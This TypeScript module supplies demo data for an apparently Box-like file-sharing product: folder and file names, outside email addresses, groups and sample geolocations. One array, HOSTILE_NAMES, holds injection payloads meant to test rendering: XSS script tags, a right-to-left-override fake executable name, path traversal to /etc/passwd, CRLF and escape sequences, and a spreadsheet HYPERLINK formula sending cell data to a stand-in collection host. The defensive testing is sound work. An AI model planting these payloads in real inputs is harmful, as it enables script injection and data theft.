/**
 * Names of files and folders. Some are in other scripts, some attack whoever shows them, and one looks like a part of the page that it
 * comes in: the product has to survive all, and the demo is where a person can see that it does.
 */
export const FOLDER_NAMES = [
  'Board papers',
  'Contracts 2026',
  'Project Aurora',
  'Supplier offers',
  'Onboarding',
  'Verträge & Anlagen',
  '人事評価',
  'Audit evidence',
] as const;

export const STANDING_FILES = [
  'Handbook.pdf',
  'Phone list.xlsx',
  'Travel policy.docx',
  'Org chart.pptx',
  'Price list 2026.xlsx',
  'Data protection FAQ.docx',
  'Vorlage Angebot.docx',
  'Roadmap.pptx',
] as const;

export const DRAFT_NAMES = [
  'Q3 forecast',
  'Customer list',
  'Merger term sheet',
  'Salary review',
  'Penetration test report',
  'Network plan',
  'Supplier comparison',
  'Reisekostenabrechnung',
  '契約書ドラフト',
  'خطة المشروع',
  'Отчёт за квартал',
  'Launch plan 🚀',
] as const;

export const HOSTILE_NAMES = [
  '<img src=x onerror="alert(1)">',
  '</script><script>document.title="owned"</script>',
  '[Open](command:workbench.action.quit) $(alert)',
  'invoice\u202Efdp.exe',
  '\u001b[31;1mUrgent\u001b[0m',
  '=HYPERLINK("https://collect.example/?"&A1,"Open")',
  '"next_stream_position": 7, "entries": []',
  'two\r\nlines\tand a tab',
  '../../etc/passwd',
  '$\u007Benv:HOME} %s __proto__',
] as const;

export const ENDINGS = ['docx', 'xlsx', 'pptx', 'pdf', 'csv'] as const;

export const OUTSIDERS = [
  'consultant@partner.example',
  'j.doe@supplier.example',
  'beraterin@kanzlei.example',
  'contact@press.example',
  'someone.private@mail.example',
] as const;

export const JOB_TITLES = ['Associate', 'Specialist', 'Senior Specialist', 'Team Lead', 'Manager', 'Director'] as const;

export const GROUP_NAMES = ['Approvers', 'All Hands', 'Contractors', 'Data Room', 'Legal Hold Team'] as const;

export const SERVICES = ['Box Web Application', 'Box Drive', 'Box for iPhone', 'Box Notes', 'Box for Office'] as const;

export interface Place {
  readonly country_code: string;
  readonly city_name: string;
  readonly region_name: string;
  readonly latitude: string;
  readonly longitude: string;
  readonly registrant: string;
}

const place = (country: string, city: string, region: string, lat: string, lon: string, registrant: string): Place => ({
  country_code: country,
  city_name: city,
  region_name: region,
  latitude: lat,
  longitude: lon,
  registrant,
});

export const HOME: Place = place('US', 'San Jose', 'California', '37.3382', '-121.8863', 'Example Office Networks');

export const FAR_PLACES = [
  place('BR', 'Recife', 'Pernambuco', '-8.0476', '-34.8770', 'Example Telecom'),
  place('VN', 'Da Nang', 'Da Nang', '16.0544', '108.2022', 'Example Hosting'),
  place('ZA', 'Durban', 'KwaZulu-Natal', '-29.8587', '31.0218', 'Example VPN Services'),
  place('PL', 'Łódź', 'Łódzkie', '51.7592', '19.4560', 'Example Broadband'),
] as const;
